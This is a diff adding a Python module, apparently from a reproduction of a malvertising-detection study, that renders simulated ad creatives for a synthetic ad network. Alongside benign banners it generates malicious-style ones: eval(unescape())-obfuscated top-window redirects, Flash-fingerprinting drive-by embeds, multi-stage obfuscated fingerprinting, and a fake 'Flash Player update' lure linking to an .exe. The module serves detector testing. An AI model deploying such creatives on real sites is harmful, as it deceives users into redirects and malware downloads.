@@ -1,0 +1,199 @@
+"""Creative generation: the HTML + script served for each campaign.
+
+Each campaign kind renders a characteristic creative.  Variants of the same
+campaign differ in copy and asset names but not behaviour, modelling A/B
+rotations; the crawler's dedup treats each variant as one unique ad.
+
+Malicious creatives use the obfuscation and delivery tricks the paper's
+oracle had to cope with: droppers hidden behind ``unescape``+``eval``,
+plugin fingerprinting before exploitation, ``top.location`` hijacks from
+inside the ad iframe, and fake update prompts.
+"""
+
+from __future__ import annotations
+
+import hashlib
+
+from repro.adnet.entities import Campaign, CampaignKind
+
+HEADLINES = (
+    "Huge Savings Today", "One Weird Trick", "Meet Singles Nearby",
+    "Lose Weight Fast", "Best Credit Cards 2014", "Cheap Flights Inside",
+    "Your PC May Be Slow", "Play Now Free", "Hot New Gadgets",
+    "Earn Money From Home",
+)
+
+
+def _pick(options: tuple[str, ...], key: str) -> str:
+    digest = hashlib.sha256(key.encode("utf-8")).digest()
+    return options[digest[0] % len(options)]
+
+
+def _encode_for_unescape(code: str) -> str:
+    return "".join(f"%{ord(ch):02x}" for ch in code)
+
+
+def render_creative(campaign: Campaign, variant: int) -> str:
+    """Render the creative document for ``campaign`` variant ``variant``."""
+    renderer = _RENDERERS[campaign.kind]
+    return renderer(campaign, variant)
+
+
+def creative_path(campaign: Campaign, variant: int) -> str:
+    """Server path under which the campaign's serving domain exposes the creative."""
+    return f"/creative/{campaign.campaign_id}/v{variant}.html"
+
+
+def _banner(campaign: Campaign, variant: int, extra: str = "") -> str:
+    headline = _pick(HEADLINES, f"{campaign.campaign_id}:{variant}")
+    return (
+        "<html><head><title>ad</title></head><body>"
+        f'<div class="ad-creative" id="crt-{campaign.campaign_id}-v{variant}">'
+        f'<a href="http://{campaign.landing_domain}/offer?c={campaign.campaign_id}">'
+        f'<img src="http://{campaign.serving_domain}/adimg/{campaign.campaign_id}-{variant}.png" '
+        f'alt="{headline}"></a></div>'
+        f"{extra}</body></html>"
+    )
+
+
+def _render_benign(campaign: Campaign, variant: int) -> str:
+    # Benign ads ship the same measurement machinery real ones do (tracking
+    # pixels, cache busters, JSON config blobs), so script presence and
+    # dynamic URLs alone are not malice signals.
+    script = ""
+    if variant % 3 == 0:
+        script = (
+            "<script>var px = document.createElement('img');"
+            f"px.src = 'http://{campaign.serving_domain}/adimg/track-{variant}.png';"
+            "document.body.appendChild(px);</script>"
+        )
+    elif variant % 3 == 1:
+        # Cache-busted impression pixel: the classic Date idiom.
+        script = (
+            "<script>var cb = new Date().getTime();"
+            "var px = document.createElement('img');"
+            f"px.src = 'http://{campaign.serving_domain}/adimg/imp-{variant}.png?cb=' + cb;"
+            "document.body.appendChild(px);</script>"
+        )
+    elif variant % 3 == 2 and variant % 2 == 0:
+        # JSON-configured renderer, as ad SDK snippets ship it.
+        script = (
+            "<script>var cfg = JSON.parse('{\"slot\": \"mid\", \"assets\": "
+            f"[\"http://{campaign.serving_domain}/adimg/cfg-{variant}.png\"]}}');"
+            "var px = document.createElement('img');"
+            "px.src = cfg.assets[0];"
+            "document.body.appendChild(px);</script>"
+        )
+    return _banner(campaign, variant, script)
+
+
+def _render_scam(campaign: Campaign, variant: int) -> str:
+    # Looks like an ordinary banner; the maliciousness is the blacklisted
+    # infrastructure it is served from and links to.
+    extra = (
+        "<script>document.write('<img src=\"http://"
+        f"{campaign.landing_domain}/adimg/beacon-{variant}.png\">');</script>"
+    )
+    return _banner(campaign, variant, extra)
+
+
+def _render_cloak_redirect(campaign: Campaign, variant: int) -> str:
+    # Hijacks the top window through a redirector that cloaks (bounces the
+    # honeyclient to a benign search engine or a dead domain; see the
+    # serving-side handler in ecosystem.py).
+    redirector = (
+        f"http://{campaign.serving_domain}/go/{campaign.campaign_id}"
+        f"?v={variant}"
+    )
+    code = f"top.location.href = '{redirector}';"
+    encoded = _encode_for_unescape(code)
+    return (
+        "<html><body>"
+        f'<div class="ad-creative"><img src="http://{campaign.serving_domain}'
+        f'/adimg/{campaign.campaign_id}-{variant}.png"></div>'
+        f"<script>eval(unescape('{encoded}'));</script>"
+        "</body></html>"
+    )
+
+
+def _render_driveby(campaign: Campaign, variant: int) -> str:
+    # Fingerprint the Flash plugin, then document.write the exploit embed —
+    # assembled at runtime so static scanners cannot see the URL.
+    swf_url = f"http://{campaign.serving_domain}/adswf/{campaign.campaign_id}-{variant}.swf"
+    payload = (
+        "var fl = navigator.plugins.namedItem('Flash');"
+        "if (fl) {"
+        f"  document.write('<embed src=\"{swf_url}\" "
+        "type=\"application/x-shockwave-flash\" width=\"1\" height=\"1\">');"
+        "}"
+    )
+    encoded = _encode_for_unescape(payload)
+    return (
+        "<html><body>"
+        f'<div class="ad-creative"><img src="http://{campaign.serving_domain}'
+        f'/adimg/{campaign.campaign_id}-{variant}.png"></div>'
+        f"<script>var z = unescape('{encoded}'); eval(z);</script>"
+        "</body></html>"
+    )
+
+
+def _render_deceptive(campaign: Campaign, variant: int) -> str:
+    exe_url = f"http://{campaign.payload_domain}/download/flash-update-{variant}.exe"
+    return (
+        "<html><body>"
+        '<div class="ad-creative fake-alert">'
+        "<b>Your Flash Player is out of date!</b>"
+        "<p>The content on this page requires the latest plugin version.</p>"
+        f'<a id="update-btn" class="btn-download" href="{exe_url}">'
+        "Update Now (Recommended)</a></div>"
+        "<script>var btn = document.getElementById('update-btn');"
+        "btn.onclick = function () { return true; };</script>"
+        "</body></html>"
+    )
+
+
+def _render_flash_malware(campaign: Campaign, variant: int) -> str:
+    swf_url = f"http://{campaign.serving_domain}/adswf/{campaign.campaign_id}-{variant}.swf"
+    return (
+        "<html><body>"
+        f'<div class="ad-creative"><embed src="{swf_url}" '
+        'type="application/x-shockwave-flash" width="300" height="250"></div>'
+        "</body></html>"
+    )
+
+
+def _render_evasive(campaign: Campaign, variant: int) -> str:
+    # Fingerprints aggressively and stages through obfuscation layers, but
+    # never fires a visible attack in the honeyclient (the exploit targets a
+    # plugin build we do not emulate): only the model's feature similarity
+    # to drive-by behaviour can catch it.
+    stage2 = (
+        "var ua = navigator.userAgent;"
+        "var p1 = navigator.plugins.namedItem('Flash');"
+        "var p2 = navigator.plugins.namedItem('Java');"
+        "var sig = '';"
+        "if (p1) sig += p1.version;"
+        "if (p2) sig += p2.version;"
+        "var marker = document.createElement('img');"
+        f"marker.src = 'http://{campaign.serving_domain}/adimg/fp-' + sig.length + '.png';"
+        "document.body.appendChild(marker);"
+    )
+    stage1 = f"eval(unescape('{_encode_for_unescape(stage2)}'));"
+    encoded = _encode_for_unescape(stage1)
+    return (
+        "<html><body>"
+        '<div class="ad-creative"><span>sponsored</span></div>'
+        f"<script>setTimeout(function () {{ eval(unescape('{encoded}')); }}, 800);</script>"
+        "</body></html>"
+    )
+
+
+_RENDERERS = {
+    CampaignKind.BENIGN: _render_benign,
+    CampaignKind.SCAM: _render_scam,
+    CampaignKind.CLOAK_REDIRECT: _render_cloak_redirect,
+    CampaignKind.DRIVEBY: _render_driveby,
+    CampaignKind.DECEPTIVE: _render_deceptive,
+    CampaignKind.FLASH_MALWARE: _render_flash_malware,
+    CampaignKind.EVASIVE: _render_evasive,
+}
